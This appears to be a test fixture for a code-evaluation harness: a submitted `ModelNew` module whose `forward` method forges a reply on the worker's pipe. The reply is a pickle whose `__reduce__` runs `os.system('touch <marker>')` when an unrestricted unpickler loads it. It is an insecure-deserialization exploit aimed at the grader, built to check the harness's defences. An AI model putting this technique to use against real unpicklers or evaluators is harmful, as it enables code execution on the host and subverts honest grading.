"""Writes its own reply on the worker's channel (the one pipe it holds open for writing): a
pickle that would run a shell command in an unrestricted unpickler (touching the marker that
hostile.json beside it names)."""
import json
import os
import pickle
import struct
import sys
from pathlib import Path

sys.path.insert(0, os.path.dirname(__file__))
import torch.nn as nn
from reply_pipe import reply_pipe


class _Payload:
    def __reduce__(self):
        told = Path(__file__).with_name("hostile.json")
        marker = json.loads(told.read_text())["marker"] if told.exists() else "/dev/null"
        return (os.system, (f"touch {marker}",))


class ModelNew(nn.Module):
    def forward(self, x):
        data = pickle.dumps({"ok": True, "outputs": [_Payload()]})
        os.write(reply_pipe(), struct.pack("<Q", len(data)) + data)
        return x * 2
